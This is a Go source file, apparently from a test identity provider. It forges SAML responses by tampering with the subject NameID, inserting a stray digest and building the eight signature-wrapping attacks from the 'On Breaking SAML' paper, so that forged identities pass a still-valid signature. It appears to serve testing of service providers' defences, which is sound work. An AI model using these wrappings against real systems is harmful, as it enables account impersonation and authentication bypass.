package testidp

import (
	"fmt"

	"github.com/beevik/etree"
)

// attack changes a finished response as somebody without the key would.
func (b *response) attack(root *etree.Element) error {
	assertion := root.SelectElement("Assertion")
	if b.knobs.Tampered && assertion != nil {
		b.tamper(assertion)
	}
	if b.knobs.CutDigest {
		if digest := root.FindElement(".//DigestValue"); digest != nil {
			digest.Parent().InsertChildAt(digest.Index(), etree.NewElement("ds:DigestValue"))
		}
	}
	if b.knobs.Wrapped == 0 {
		return nil
	}
	if assertion == nil {
		return fmt.Errorf("testidp: wrapping %d needs a plain assertion", b.knobs.Wrapped)
	}
	return b.wrap(root, assertion)
}

func (b *response) tamper(assertion *etree.Element) {
	if name := assertion.FindElement("./Subject/NameID"); name != nil {
		name.SetText(b.knobs.forged())
	}
}

// forge copies an element without its signature and asserts the forged person under other IDs.
func (b *response) forge(el *etree.Element) *etree.Element {
	forged := el.Copy()
	strip(forged)
	forged.CreateAttr("ID", random())
	assertion := forged
	if inner := forged.SelectElement("Assertion"); inner != nil {
		strip(inner)
		inner.CreateAttr("ID", random())
		assertion = inner
	}
	b.tamper(assertion)
	return forged
}

// strip removes and returns the signature that is a direct child.
func strip(el *etree.Element) *etree.Element {
	signature := el.SelectElement("Signature")
	if signature != nil {
		el.RemoveChild(signature)
	}
	return signature
}

// wrap makes the eight signature wrappings of "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012), in the
// numbering of SAML Raider. 1 and 2 need a signed Response, 3 to 8 a signed Assertion; the signature stays valid over the original.
func (b *response) wrap(root, assertion *etree.Element) error {
	n, signed := b.knobs.Wrapped, assertion
	if n <= 2 {
		signed = root
	}
	if signed.SelectElement("Signature") == nil || n < 0 || n > 8 {
		return fmt.Errorf("testidp: wrapping %d does not fit what is signed", n)
	}
	if n <= 2 {
		b.wrapResponse(root, n)
		return nil
	}
	forged, original := b.forge(assertion), assertion
	switch n {
	case 3: // forged before the original
		root.InsertChildAt(original.Index(), forged)
	case 4: // the original inside the forged
		at := original.Index()
		root.RemoveChild(original)
		root.InsertChildAt(at, forged)
		forged.AddChild(original)
	case 5: // forged carries the signature, the original bare at the end
		b.carry(root, original, forged)
		root.AddChild(original)
	case 6: // forged carries the signature, the original inside it
		b.carry(root, original, forged).AddChild(original)
	case 7: // forged inside Extensions, before the original
		extensions := b.root(nsProtocol, "Extensions")
		extensions.AddChild(forged)
		root.InsertChildAt(original.Index(), extensions)
	case 8: // the original inside an Object of the signature that the forged carries
		object := etree.NewElement("ds:Object")
		object.AddChild(original.Copy())
		strip(object.SelectElement("Assertion"))
		b.carry(root, original, forged).AddChild(object)
	}
	return nil
}

// carry moves the signature from the original to the forged assertion, which takes its place, and returns the signature.
func (b *response) carry(root, original, forged *etree.Element) *etree.Element {
	at, signature := original.Index(), strip(original)
	root.RemoveChild(original)
	root.InsertChildAt(at, forged)
	forged.InsertChildAt(1, signature)
	return signature
}

// wrapResponse turns the root into the forged response; the original goes into the signature (1) or beside it (2).
func (b *response) wrapResponse(root *etree.Element, n int) {
	original := root.Copy()
	signature := strip(original)
	forged := b.forge(root)
	root.Child, root.Attr = nil, nil
	for _, attr := range forged.Attr {
		root.CreateAttr(attr.FullKey(), attr.Value)
	}
	for _, child := range forged.ChildElements() {
		root.AddChild(child)
	}
	root.InsertChildAt(1, signature)
	if n == 1 {
		signature.AddChild(original)
		return
	}
	root.InsertChildAt(1, original)
}
